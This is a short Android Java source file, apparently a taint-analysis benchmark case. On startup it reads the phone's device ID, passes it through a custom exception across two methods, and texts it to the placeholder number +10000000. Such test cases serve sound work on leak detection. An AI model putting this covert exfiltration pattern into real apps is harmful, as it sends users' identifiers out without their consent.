package org.consentry.flow.general.exceptionfield;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Found extends Exception {
        final String value;

        Found(String value) {
            this.value = value;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            middle(phone);
        } catch (Found found) {
            SmsManager.getDefault().sendTextMessage("+10000000", null, found.value, null, null);
        }
    }

    private static void middle(TelephonyManager phone) throws Found {
        try {
            low(phone);
        } catch (Found found) {
            throw found;
        }
    }

    private static void low(TelephonyManager phone) throws Found {
        throw new Found(phone.getDeviceId());
    }
}
